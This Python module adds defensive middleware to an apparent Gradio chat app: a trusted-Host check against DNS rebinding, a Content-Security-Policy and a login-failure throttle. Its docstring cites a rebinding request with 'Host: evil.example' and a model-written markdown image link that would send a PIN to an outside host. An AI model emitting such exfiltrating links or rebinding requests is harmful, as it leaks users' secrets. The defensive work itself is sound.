"""What the web server checks before Gradio sees a request: who is asking, and how often.

Three pieces of ASGI middleware, handed to Gradio's FastAPI app by ``launch_app``:

- Starlette's ``TrustedHostMiddleware`` answers 400 to any request whose ``Host`` is not
  one of the app's own names (loopback, the address it binds, COMPANION_ALLOWED_HOSTS).
  A DNS-rebinding page reaches the app from the browser with ``Host: evil.example``, so
  without this check it could read every conversation even on 127.0.0.1;
- ``SecurityHeaders`` serves a Content-Security-Policy under which images and media load
  only from the app itself, ``data:`` and ``blob:``: a model-written
  ``![](http://host/?pin=4321)`` is never fetched by the browser;
- ``LoginThrottle`` counts failed logins per client address: after
  ``FREE_LOGIN_FAILURES`` of them, that address's logins are refused (429, even with the
  right password) for a delay that doubles with each further failure.
"""

from __future__ import annotations

import ipaddress
import logging
import math
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from starlette.datastructures import MutableHeaders
from starlette.middleware import Middleware
from starlette.middleware.trustedhost import TrustedHostMiddleware
from starlette.responses import JSONResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

log = logging.getLogger("companion.app")

LOOPBACK_NAMES = ("localhost", "127.0.0.1", "[::1]")
ANY_ADDRESS = ("0.0.0.0", "::", "")  # bind every interface: no name of its own
# Gradio's own page needs nothing more; everything else keeps the browser's defaults.
CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'"
)
LOGIN_PATHS = ("/login", "/login/")
FREE_LOGIN_FAILURES = 5
FIRST_LOCK_SECONDS = 2.0
MAX_LOCK_SECONDS = 300.0
FORGET_AFTER_SECONDS = 3600.0  # a quiet hour wipes an address's failures
MAX_TRACKED_ADDRESSES = 10_000


def is_loopback(host: str) -> bool:
    """True when binding ``host`` keeps the app on this machine."""
    name = host.strip("[]").lower()
    if name == "localhost":
        return True
    try:
        return ipaddress.ip_address(name).is_loopback
    except ValueError:
        return False


def exposure_problem(host: str, password: str | None) -> str | None:
    """Why serving on ``host`` with this password would expose the app, or None."""
    if password or is_loopback(host):
        return None
    return (
        f"refusing to serve on {host} without a password: anyone who can reach this "
        "machine could read your conversations and use your API key. Set "
        "COMPANION_PASSWORD, or serve on 127.0.0.1."
    )


def trusted_hosts(bind_host: str, allowed: Iterable[str] = ()) -> list[str]:
    """The ``Host`` names the app answers to: loopback, the bound address, and ``allowed``."""
    names = list(LOOPBACK_NAMES)
    bound = bind_host.strip("[]").lower()
    if bound not in ANY_ADDRESS:
        names.append(f"[{bound}]" if ":" in bound else bound)
    names.extend(name.lower() for name in allowed)
    return list(dict.fromkeys(names))


class SecurityHeaders:
    """Adds the Content-Security-Policy to every HTTP response."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message)["Content-Security-Policy"] = CONTENT_SECURITY_POLICY
            await send(message)

        await self.app(scope, receive, send_with_policy)


@dataclass
class _Failures:
    """Failed logins of one client address."""

    count: int = 0
    last: float = 0.0  # when the last attempt started (clock seconds)
    locked_until: float = 0.0


class LoginThrottle:
    """Refuses an address's logins for a growing delay after repeated failures.

    An attempt counts as a failure when it starts (so a burst of parallel guesses cannot
    all slip in before the first result) and is forgiven when Gradio accepts it.
    """

    def __init__(self, app: ASGIApp, clock: Callable[[], float] = time.monotonic) -> None:
        self.app = app
        self.clock = clock
        self.failures: dict[str, _Failures] = {}

    def lock_seconds(self, failures: int) -> float:
        """How long an address waits after ``failures`` failed logins (0 = not locked)."""
        if failures < FREE_LOGIN_FAILURES:
            return 0.0
        return min(FIRST_LOCK_SECONDS * 2 ** (failures - FREE_LOGIN_FAILURES), MAX_LOCK_SECONDS)

    def _entry(self, address: str, now: float) -> _Failures:
        entry = self.failures.get(address)
        if entry is None or (now - entry.last > FORGET_AFTER_SECONDS and now >= entry.locked_until):
            if len(self.failures) >= MAX_TRACKED_ADDRESSES:
                self._forget_unlocked(now)
            entry = self.failures[address] = _Failures()
        return entry

    def _forget_unlocked(self, now: float) -> None:
        for address in [a for a, e in self.failures.items() if now >= e.locked_until]:
            del self.failures[address]
        if len(self.failures) >= MAX_TRACKED_ADDRESSES:  # all locked: drop the oldest
            oldest = sorted(self.failures, key=lambda a: self.failures[a].last)
            for address in oldest[: len(oldest) // 2]:
                del self.failures[address]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or scope["method"] != "POST" or scope["path"] not in LOGIN_PATHS:
            await self.app(scope, receive, send)
            return
        client = scope.get("client")
        address = str(client[0]) if client else "unknown"
        now = self.clock()
        entry = self._entry(address, now)
        if now < entry.locked_until:
            wait = math.ceil(entry.locked_until - now)
            log.warning(
                "login from %s refused: %d failed attempts, %d s to wait",
                address,
                entry.count,
                wait,
            )
            response = JSONResponse(
                {"detail": f"Too many failed logins: try again in {wait} s."},
                status_code=429,
                headers={"Retry-After": str(wait)},
            )
            await response(scope, receive, send)
            return
        entry.count += 1
        entry.last = now
        entry.locked_until = now + self.lock_seconds(entry.count)
        statuses: list[int] = []

        async def watch(message: Message) -> None:
            if message["type"] == "http.response.start":
                statuses.append(int(message["status"]))
            await send(message)

        await self.app(scope, receive, watch)
        if statuses and 200 <= statuses[0] < 300:
            self.failures.pop(address, None)
        else:
            log.warning("failed login from %s (%d in a row)", address, entry.count)


def middleware(allowed_hosts: Iterable[str]) -> list[Middleware]:
    """The app's middleware, outermost first: Host check, security headers, login throttle."""
    return [
        Middleware(TrustedHostMiddleware, allowed_hosts=list(allowed_hosts), www_redirect=False),
        Middleware(SecurityHeaders),
        Middleware(LoginThrottle),
    ]
